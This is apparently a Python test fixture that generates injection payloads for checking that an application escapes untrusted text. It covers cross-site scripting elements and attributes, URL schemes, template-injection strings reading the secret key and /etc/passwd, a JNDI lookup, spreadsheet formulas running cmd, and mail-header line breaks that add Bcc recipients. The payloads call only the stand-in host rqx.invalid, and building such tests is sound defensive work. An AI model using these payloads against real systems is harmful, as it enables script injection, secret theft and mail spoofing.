"""Texts that try to be more than texts: in a page, in a document, in a spreadsheet, in the head of a mail.

Whatever runs shows itself: an element or an attribute that a page of plain words has not, or the number ``RESULT``,
which is written nowhere and only comes out of a computation.
"""

from __future__ import annotations

import itertools

RESULT = "1337"  # 191 times 7
SUM = "191*7"

EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
CARRIERS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee", "iframe",
    "object data=x", "math", "table", "form", "select autofocus", "textarea autofocus", "x-rqx tabindex=1",
)  # fmt: skip
CODE = "rqx()"


def elements() -> list[str]:
    pairs = itertools.product(CARRIERS, EVENTS)
    return [f"<{carrier} {event}={CODE}>" for place, (carrier, event) in enumerate(pairs) if place % 16 < 9] + [
        f"<script>{CODE}</script>",
        f"<ScRiPt>{CODE}</sCrIpT>",
        "<script src=//rqx.invalid></script>",
        f"</script><script>{CODE}</script>",
        f"</title><script>{CODE}</script>",
        f"</textarea><script>{CODE}</script>",
        f"</style><script>{CODE}</script>",
        f"</template><img src=x onerror={CODE}>",
        f"--><img src=x onerror={CODE}><!--",
        f"<!--><img src=x onerror={CODE}>-->",
        f"]]><img src=x onerror={CODE}>",
        f"<![CDATA[<img src=x onerror={CODE}>]]>",
        f"<img src=x:x onerror\n={CODE}>".replace("\n", " "),
        f"<img/src=x/onerror={CODE}>",
        f"<<img src=x onerror={CODE}//",
        "<style>@import '//rqx.invalid'</style>",
        "<link rel=stylesheet href=//rqx.invalid>",
        "<meta http-equiv=refresh content='0;url=//rqx.invalid'>",
        "<base href=//rqx.invalid/>",
        "<form action=//rqx.invalid><button>rqx</button></form>",
        "<button form=f formaction=//rqx.invalid>rqx</button>",
        f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={CODE}>",
        "<div hx-get=/accounts/logout/ hx-trigger=load>rqx</div>",
        "<div data-hx-on:load=rqx()>rqx</div>",
        "<template shadowrootmode=open><slot></slot></template>",
    ]


def attributes() -> list[str]:
    quotes = ('"', "'", "`", "&quot;", "&#34;", "&#x27;", '\\"')
    made = [f"{quote} {event}={CODE} x={quote}" for quote in quotes for event in EVENTS[:4]]
    made += [f"{quote}><svg/onload={CODE}>" for quote in quotes]
    made += [f"{quote} autofocus tabindex=1 style=animation-name:rqx {quote}" for quote in quotes[:2]]
    return [*made, "x onclick=rqx()", "/onclick=rqx()/", "\\x3cimg src=x onerror=rqx()\\x3e", "\\u003cscript\\u003e"]


def drawings() -> list[str]:
    return [
        f"<svg><script>{CODE}</script></svg>",
        f"<svg><a xlink:href=javascript:{CODE}><text>rqx</text></a></svg>",
        f"<svg><animate onbegin={CODE} attributeName=x dur=1s>",
        f"<svg><set onend={CODE} attributeName=x to=y>",
        f"<svg><foreignObject><body onload={CODE}></foreignObject></svg>",
        "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
        "<svg><image href=//rqx.invalid/x.svg></svg>",
        "<svg><style>*{fill:url(//rqx.invalid)}</style></svg>",
        f"<?xml-stylesheet href='javascript:{CODE}'?>",
        f"</text></svg><script>{CODE}</script>",
        f"</title></svg><img src=x onerror={CODE}>",
        f"</desc><script>{CODE}</script>",
    ]


def addresses() -> list[str]:
    schemes = ("javascript", "JaVaScRiPt", "vbscript", "data", "java\u200bscript", "&#106;avascript", "%6Aavascript")
    made = [f"{scheme}:{CODE}" for scheme in schemes]
    return [
        *made,
        f"data:text/html,<script>{CODE}</script>",
        "data:text/html;base64,PHNjcmlwdD5ycXgoKTwvc2NyaXB0Pg==",
        "//rqx.invalid/x",
        "\\\\rqx.invalid\\x",
        "https://rqx.invalid/?a=1&b=<x>",
        "blob:https://rqx.invalid/1",
        "file:///etc/passwd",
        "mailto:a@b.invalid?bcc=rqx@rqx.invalid",
        "view-source:javascript:rqx()",
    ]


def templates() -> list[str]:
    return [
        "{{ " + SUM + " }}", "{{" + SUM + "}}", "${" + SUM + "}", "#{" + SUM + "}", "<%= " + SUM + " %>",
        "{% debug %}", "{{ settings.SECRET_KEY }}", "{{ request.META }}", "{% load static %}{% static 'x' %}",
        "{% include '/etc/passwd' %}", "{% csrf_token %}", "{% now 'Y' %}", "{# note #}", "{% comment %}",
        "{% endblock %}",
        "{{ ''.__class__.__mro__ }}", "{% templatetag openblock %}", "{% verbatim %}", "{{ block.super }}", "%(name)s",
        "%s%s%n", "{0.__class__}", "{name}", "{}", "$" + "{jndi:ldap://rqx.invalid}", "[[" + SUM + "]]",
        "{{=" + SUM + "}}",
        "<mj-raw>rqx</mj-raw>", "</mj-text><mj-raw><b>rqx</b></mj-raw><mj-text>", "<mj-include path='/etc/passwd' />",
    ]  # fmt: skip


def typesetting() -> list[str]:
    return [
        "#(" + SUM + ")", "#{ " + SUM + " }", "#calc.pow(2,3)", "#eval(\"" + SUM + "\")", "#let x = 1",
        "#panic(\"rqx\")",
        "#read(\"/etc/passwd\")", "#include \"/etc/passwd\"", "#import \"@preview/rqx:1.0.0\"", "#sys.inputs",
        "#image(\"x\")",
        "#link(\"https://rqx.invalid\")[rqx]", "#pagebreak()", "#show: it => []", "#set text(size: 99pt)",
        "$ x^2 + y $",
        "$sum_(i=0)^n i$", "@reference", "<label>", "*strong*", "_emphasis_", "`raw`",
        "```typ #(" + SUM + ") ```", "= Title",
        "== Title", "- item", "+ item", "/ term: text", "\\#escaped", "\\u{1F600}", "~ ~", "--- ...", "// note",
        "/* note */",
        "[bracket]", "#[content]", "#strong[rqx]", "]#panic()[", "\")#panic(\"", "\"+str(" + SUM + ")+\"",
        "#while true {}",
        "\\", "\\n", "\"", "#", "$", "@", "<", "[", "]", "{", "}",
    ]  # fmt: skip


def markups() -> list[str]:
    return [
        f"[rqx](javascript:{CODE})", "![rqx](//rqx.invalid/x.png)", "[rqx]: javascript:rqx()", f"<javascript:{CODE}>",
        "**rqx**", "# rqx", "> rqx", "| a | b |", "```", "~~~", "&lt;script&gt;", "&amp;lt;b&amp;gt;", "&#60;b&#62;",
        "&copy; &nbsp; &#x41;", "&notin", "&", "&&amp;", "<", ">", "\"", "'", "a<b>c", "a & b", "1 < 2 > 1",
    ]  # fmt: skip


def unicodes() -> list[str]:
    return [
        "\u202e<b>rqx</b>\u202c", "\u2066rqx\u2069", "＜script＞rqx()＜/script＞", "\ufe64b\ufe65", "ʼ onclick=rqx() ʼ",
        "\u2028<b>rqx</b>", "\u2029rqx", "\u00a0rqx", "\ufeffrqx", "r\u200bq\u200dx", "e\u0301\u0301\u0301\u0301\u0301",
        "Z" + "\u0335\u0323\u0344" * 20, "👩‍👩‍👧‍👦 🏴\u200d☠️", "ﷺ" * 5, "\u0085rqx", "\u001brqx", "\u0007rqx",
        "\u000brqx",
        "ſcript", "ıİ", "ß", "ﬀ", "Ⅷ", "𝓈𝒸𝓇𝒾𝓅𝓉", "𐀀", "\U0010fffd", "\ue000", "\ufffe", "العربية <b>",
        "עברית <i>", "中文<u>",
    ]  # fmt: skip


FAMILIES = {
    "elements": elements,
    "attributes": attributes,
    "drawings": drawings,
    "addresses": addresses,
    "templates": templates,
    "typesetting": typesetting,
    "markups": markups,
    "unicodes": unicodes,
}


def all_texts() -> list[str]:
    """Every payload once, the families one after the other."""
    return list(dict.fromkeys(text for family in FAMILIES.values() for text in family()))


# ---------------------------------------------------------------- cells that spreadsheets would compute
STARTERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    "=1+1", "=HYPERLINK(\"https://rqx.invalid\",\"rqx\")", "=cmd|'/c calc'!A0", "+1+1", "+cmd|'/c calc'!A0", "-1+1",
    "-2+3+cmd|'/c calc'!A0", "@SUM(1;1)", "@rqx", "\t=1+1", "\r=1+1", "\n=1+1", "=WEBSERVICE(\"https://rqx.invalid\")",
    " =1+1",
    "\u00a0=1+1", "'=1+1", "\"=1+1", ";=1+1", "a;=1+1", "a\r\n=1+1", "a\n=1+1;", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "{=1+1}", "%0A=1+1",
)  # fmt: skip


# ---------------------------------------------------------------- heads of mails
BREAKS = ("\r\n", "\n", "\r", "\u2028", "\u2029", "\u0085", "\x0b", "\x0c", "\x1c", "\x00", "%0d%0a", "\\r\\n")
ADDED = (
    "Bcc: rqx@rqx.invalid", "To: rqx@rqx.invalid", "X-Rqx: 1", "Content-Type: text/html", "\r\n<b>rqx</b>",
    "Subject: rqx", "Reply-To: rqx@rqx.invalid",
)  # fmt: skip


def headers() -> list[str]:
    """A hundred names that would like to be more headers, or more recipients."""
    made = [f"Rqx{line}{header}" for line in BREAKS for header in ADDED]
    made += [
        "=?utf-8?q?=0D=0ABcc:_rqx@rqx.invalid?=",
        "=?utf-8?b?DQpCY2M6IHJxeEBycXguaW52YWxpZA==?=",
        "=?utf-16?b?AA0ACg==?= rqx",
        "Rqx <rqx@rqx.invalid>",
        "Rqx, rqx@rqx.invalid",
        "rqx@rqx.invalid; Rqx",
        '"Rqx" <rqx@rqx.invalid>, x',
        'Rqx\\" <rqx@rqx.invalid>',
        "(comment) Rqx",
        "Rqx:;",
        "group: rqx@rqx.invalid;",
        "R" * 5000,
        "é" * 2000,
        "\U0001f600" * 300,
        "R" + " " * 998 + "Bcc: rqx@rqx.invalid",
        ".\r\nRCPT TO:<rqx@rqx.invalid>\r\nDATA",
    ]
    return made
